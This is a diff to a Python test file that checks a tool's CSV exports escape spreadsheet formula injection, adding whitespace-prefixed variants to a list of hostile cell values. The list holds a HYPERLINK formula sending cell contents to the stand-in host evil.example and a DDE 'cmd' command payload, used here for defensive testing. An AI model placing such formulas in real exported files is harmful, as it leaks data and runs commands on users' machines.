@@ -31,6 +31,13 @@ HOSTILE = [
     "\0=1+1",
     '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")',
     "=cmd|' /C calc'!A0",
+    # White space first: spreadsheets skip it and still read a formula.
+    ' =HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")',
+    "   +1+1",
+    "\u00a0=1+1",
+    "\u2003@SUM(A1:A2)",
+    "\n=1+1",
+    " \t -1+1",
 ]
 
 
@@ -40,7 +47,8 @@ def test_formula_leads_get_an_apostrophe(value: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "value", ["", "1", "P2", "a=b", "Charte « validée »", "'déjà", "niveau 3 - partiel"]
+    "value",
+    ["", "1", "P2", "a=b", "Charte « validée »", "'déjà", "niveau 3 - partiel", "  1", " a = b"],
 )
 def test_other_values_are_unchanged(value: str) -> None:
     assert safe_cell(value) == value
@@ -62,7 +70,7 @@ def rows_of(data: bytes, lang: str) -> list[list[str]]:
 
 def assert_no_formula(rows: list[list[str]], expected: list[str]) -> None:
     cells = [cell for row in rows for cell in row]
-    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
+    assert not [c for c in cells if c.startswith(FORMULA_LEADS) or c.lstrip()[:1] in "=+-@"]
     missing = [value for value in expected if "'" + value not in cells]
     assert not missing, missing
 
@@ -70,26 +78,13 @@ def assert_no_formula(rows: list[list[str]], expected: list[str]) -> None:
 @pytest.mark.parametrize("lang", ["fr", "en"])
 def test_results_csv_neutralises_every_comment(mini, lang: str) -> None:
     qids = list(mini.questions)
-    comments = {qid: HOSTILE[i % len(HOSTILE)] for i, qid in enumerate(qids)}
-    extra = HOSTILE[len(qids) :]  # more payloads than questions: a second report takes the rest
-    answers = Answers(
-        "mini", "1.0", {"establishment_type": "chu"}, dict.fromkeys(qids, 1), comments
-    )
-    rows = rows_of(
-        results_csv(build_report(mini, answers, benchmarks.load_editions(MINI_BENCH)), lang), lang
-    )
-    assert_no_formula(rows, list(comments.values()))
-    more = Answers(
-        "mini",
-        "1.0",
-        {},
-        dict.fromkeys(qids[: len(extra)], 2),
-        dict(zip(qids, extra, strict=False)),
-    )
-    rows = rows_of(
-        results_csv(build_report(mini, more, benchmarks.load_editions(MINI_BENCH)), lang), lang
-    )
-    assert_no_formula(rows, extra)
+    for start in range(0, len(HOSTILE), len(qids)):  # more payloads than questions: several reports
+        comments = dict(zip(qids, HOSTILE[start : start + len(qids)], strict=False))
+        answers = Answers(
+            "mini", "1.0", {"establishment_type": "chu"}, dict.fromkeys(comments, 1), comments
+        )
+        report = build_report(mini, answers, benchmarks.load_editions(MINI_BENCH))
+        assert_no_formula(rows_of(results_csv(report, lang), lang), list(comments.values()))
 
 
 def test_workshop_csv_neutralises_participant_comments(mini) -> None:
